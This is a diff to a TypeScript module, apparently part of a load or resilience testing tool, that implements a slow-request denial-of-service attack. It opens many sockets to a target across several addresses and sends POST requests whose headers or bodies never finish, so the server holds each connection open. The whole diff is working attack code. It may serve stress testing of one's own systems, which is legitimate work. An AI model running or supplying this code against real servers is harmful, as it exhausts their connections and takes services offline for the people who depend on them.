@@ -1,22 +1,24 @@
 import { openConnection, requestHead } from '../../clients/raw-socket.ts'
-import { count, keepHighest } from '../../support/counts.ts'
+import { count } from '../../support/counts.ts'
 import type { Attack } from '../attack.ts'
+import { openMany } from '../open-many.ts'
 
-const mostOpen = 12_000
+/** The server answers these headers at once, and then waits for the body. */
+const headers = { 'Content-Type': 'application/json', 'Content-Length': '100', Expect: '100-continue' }
 
 /** Posts whose body never comes to its end, and requests whose headers do not. */
 export const unfinishedRequests: Attack = ({ url, addresses }, achieved) => {
-  const head = requestHead('POST', url, { 'Content-Type': 'application/json' })
-  let open = 0
+  const head = requestHead('POST', url, headers)
   let number = 0
-  const next = () => {
-    if (open > mostOpen) return
-    open += 1
+  openMany(achieved, ({ accepted, gone }) => {
     const socket = openConnection({ url, address: addresses[(number += 1) % addresses.length] })
-    socket.once('close', () => (open -= 1))
-    socket.once('data', (data) => count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`))
-    socket.write(number % 10 === 0 ? head : `${head}Content-Length: 100\r\n\r\n[`)
-    keepHighest(achieved, 'open at once', open)
-  }
-  setInterval(() => Array.from({ length: 6 }, next), 20)
+    const isWithoutEnd = number % 10 === 0
+    socket.write(isWithoutEnd ? head : `${head}\r\n[`)
+    if (isWithoutEnd) socket.once('connect', accepted) // nothing tells when the server has accepted it
+    socket.on('data', (data) => {
+      accepted()
+      count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`)
+    })
+    socket.once('close', gone)
+  })
 }
